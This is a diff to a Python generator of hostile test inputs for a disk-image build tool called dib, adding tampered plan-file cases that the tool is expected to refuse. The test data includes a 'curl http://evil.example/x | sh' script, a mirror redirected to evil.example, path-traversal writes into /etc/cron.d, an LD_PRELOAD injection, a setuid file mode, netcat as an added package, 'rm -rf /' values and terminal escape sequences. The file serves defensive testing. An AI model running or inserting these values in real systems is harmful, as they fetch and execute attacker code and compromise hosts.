@@ -8,6 +8,9 @@ one naming the element), without crashing, within 2 s and 256 MB:
   blockdev/NNN-kind-what.yaml     run as: dib blockdev NNN-kind-what.yaml
   elements/NNN-kind-what/         run as: dib plan -e elements Dibfile.yaml
                                   (in that directory)
+  plan/NNN-kind-what.json         edits of the plan file dib makes of
+                                  plan/base.yaml (dib plan -o), or raw bytes;
+                                  run as: dib plan plan.json
 
 The expected outputs (*.golden) are written by the test in cmd/dib
 (go test ./cmd/dib -run TestHostileCorpus -update). The inputs are
@@ -24,7 +27,7 @@ HERE = os.path.dirname(os.path.abspath(__file__))
 HEAD = "name: h\ndistro: debian-minimal\n"
 DISK = HEAD + "outputs: [raw]\n"
 
-cases = {"dibfile": [], "blockdev": [], "elements": []}
+cases = {"dibfile": [], "blockdev": [], "elements": [], "plan": []}
 
 
 def dibfile(kind, what, text):
@@ -451,6 +454,106 @@ for what, text in {"unknown": "no-such-element\n", "slash": "../vm\n", "two-os":
 elem("element-deps", "huge", element__deps="x\n" * 524289)
 
 
+# ---------------------------------------------------------------- plan files
+# A case edits the plan dib makes of PLAN_BASE (the test runs dib plan -o
+# first, so the cases follow the compiler): "edits" are applied in order
+# (op set/delete/append at a JSON pointer, a negative index counting from
+# the end of an array; swap and append-copy take a second pointer; op
+# evil-file gives the first file with content a new content, its blob and
+# digest consistent; evil-blob and evil-blob-raw change the first blob);
+# "prefix"/"suffix" wrap the result. A case with "raw" is those bytes
+# instead ([text, repeat] pairs).
+PLAN_BASE = "name: h\ndistro: debian-minimal\nskip-base: true\noutputs: [tar]\n"
+
+
+def plan(kind, what, edits=(), raw=None, prefix="", suffix=""):
+    c = {}
+    if edits:
+        c["edits"] = [dict(zip(("op", "path", "value"), e)) for e in edits]
+    if raw is not None:
+        c["raw"] = raw
+    if prefix:
+        c["prefix"] = prefix
+    if suffix:
+        c["suffix"] = suffix
+    cases["plan"].append((kind, what, c))
+
+
+def pset(path, value):
+    return ("set", path, value)
+
+
+EVIL = "#!/bin/sh\ncurl http://evil.example/x | sh\n"
+# Changed after dib plan: each must be refused, naming what changed.
+plan("tamper", "bootstrap-mirror", [pset("/steps/0/bootstrap/mirror", "http://evil.example/debian")])
+plan("tamper", "bootstrap-suite", [pset("/steps/0/bootstrap/suite", "sid")])
+plan("tamper", "bootstrap-include", [("append", "/steps/0/bootstrap/include", "netcat-openbsd")])
+plan("tamper", "bootstrap-provider", [pset("/steps/0/bootstrap/provider", "sh")])
+plan("tamper", "script-content", [("evil-file", "", EVIL)])
+plan("tamper", "blob-content", [("evil-blob", "", EVIL)])
+plan("tamper", "file-mode", [pset("/files/0/mode", 0o4755)])
+plan("tamper", "file-path-escape", [pset("/files/0/path", "../../../etc/cron.d/x")])
+plan("tamper", "file-path-absolute", [pset("/files/0/path", "/etc/cron.d/x")])
+plan("tamper", "env-value", [pset("/env/0/value", "s390x")])
+plan("tamper", "env-added", [("append", "/env", {"name": "LD_PRELOAD", "value": "/tmp/x.so", "origin": {"kind": "default"}})])
+plan("tamper", "env-secret-value", [("append", "/env", {"name": "DIB_X_PASSWORD", "value": "hunter2", "secret": True, "origin": {"kind": "default"}})])
+plan("tamper", "env-from-env", [("append", "/env", {"name": "DIB_X_TOKEN", "value": "<secret>", "secret": True, "from_env": "AWS_SECRET_ACCESS_KEY", "origin": {"kind": "default"}})])
+plan("tamper", "dep-dropped", [pset("/steps/-1/deps", [])])
+plan("tamper", "dep-added", [("append", "/steps/2/deps", "0" * 64)])
+plan("tamper", "step-id", [pset("/steps/1/id", "0" * 64)])
+plan("tamper", "plan-id", [pset("/id", "1" * 64)])
+plan("tamper", "step-removed", [("delete", "/steps/3", None)])
+plan("tamper", "steps-swapped", [("swap", "/steps/2", "/steps/3")])
+plan("tamper", "step-duplicated", [("append-copy", "/steps", "/steps/2")])
+plan("tamper", "step-kind", [pset("/steps/2/kind", "output")])
+plan("tamper", "phase-script-path", [pset("/steps/2/phase/scripts/0/path", "../../../../../bin/sh")])
+plan("tamper", "phase-where", [pset("/steps/5/where", "host")])
+plan("tamper", "image-name-escape", [pset("/image/name", "../../../tmp/x/ESCAPED")])
+plan("tamper", "image-name-absolute", [pset("/image/name", "/tmp/x/ESCAPED")])
+plan("tamper", "image-release", [pset("/image/release", "bookworm/../../../tmp/x")])
+plan("tamper", "image-arch", [pset("/image/arch", "arm64")])
+plan("tamper", "element-source", [pset("/elements/0/source", "/tmp/x")])
+plan("tamper", "host-tool-package", [pset("/host_tools/0/package", "netcat-openbsd")])
+plan("tamper", "output-path-escape", [pset("/steps/-1/output/path", "../../x.tar")])
+plan("tamper", "output-path-absolute", [pset("/steps/-1/output/path", "/tmp/x.tar")])
+plan("tamper", "output-format", [pset("/steps/-1/output/format", "qcow2")])
+plan("tamper", "second-parameter-set", [pset("/steps/2/output", {"format": "tar", "path": "h.tar"})])
+# Versions.
+plan("version", "format-2", [pset("/format_version", 2)])
+plan("version", "format-0", [pset("/format_version", 0)])
+plan("version", "format-string", [pset("/format_version", "1")])
+plan("version", "format-huge", [pset("/format_version", 1e300)])
+plan("version", "dib-major", [pset("/dib_version", "99.0.0")])
+plan("version", "dib-escape", [pset("/dib_version", "\x1b[2J")])
+# Not the plan's schema.
+plan("schema", "unknown-key", [pset("/run", "rm -rf /")])
+plan("schema", "unknown-step-key", [pset("/steps/0/run", "rm -rf /")])
+plan("schema", "deps-string", [pset("/steps/0/deps", "x")])
+plan("schema", "id-not-hex", [pset("/steps/0/id", "abc")])
+plan("schema", "kind-unknown", [pset("/steps/0/kind", "shell")])
+plan("schema", "steps-missing", [("delete", "/steps", None)])
+plan("schema", "steps-null", [pset("/steps", None)])
+plan("schema", "image-null", [pset("/image", None)])
+plan("schema", "blob-not-base64", [("evil-blob-raw", "", "%%% not base64 %%%")])
+plan("schema", "size-negative", [pset("/files/0/size", -1)])
+plan("schema", "env-name-bad", [pset("/env/0/name", "A B")])
+plan("schema", "control-chars", [pset("/image/name", "h\x1b]0;owned\x07")])
+# Not JSON, or not an object.
+plan("json", "empty", raw=[["", 1]])
+plan("json", "truncated", raw=[['{"format_version": 1, "steps": [', 1]])
+plan("json", "array", raw=[["[]", 1]])
+plan("json", "string", raw=[['"plan"', 1]])
+plan("json", "null", raw=[["null", 1]])
+plan("json", "object-empty", raw=[["{}", 1]])
+plan("json", "nul-bytes", raw=[["\x00", 4096]])
+plan("json", "deep-arrays", raw=[["[", 200000]])
+plan("json", "deep-objects", raw=[['{"a":', 100000]])
+plan("json", "huge-number", raw=[['{"format_version": 1' + "0" * 100000 + "}", 1]])
+plan("json", "long-string", raw=[['{"id": "', 1], ["x", 3 << 20], ['"}', 1]])
+plan("json", "trailing-garbage", suffix="\n{}")
+plan("json", "bom", prefix="\ufeff")
+
+
 # ---------------------------------------------------------------- write
 def write(path, text):
     os.makedirs(os.path.dirname(path), exist_ok=True)
@@ -480,6 +583,10 @@ for i, (kind, what, files, dtext) in enumerate(cases["elements"], 1):
     if not any(n.endswith("element-deps") for n in files):
         write(os.path.join(d, "elements", "fz", "element-deps"), "")
     counts["elements/" + kind] = counts.get("elements/" + kind, 0) + 1
+write(os.path.join(HERE, "plan", "base.yaml"), PLAN_BASE)
+for i, (kind, what, c) in enumerate(cases["plan"], 1):
+    write(os.path.join(HERE, "plan", "%03d-%s-%s.json" % (i, kind, what)), json.dumps(c, indent=1, sort_keys=True) + "\n")
+    counts["plan/" + kind] = counts.get("plan/" + kind, 0) + 1
 total = sum(counts.values())
 for k in sorted(counts):
     print("%-28s %d" % (k, counts[k]))
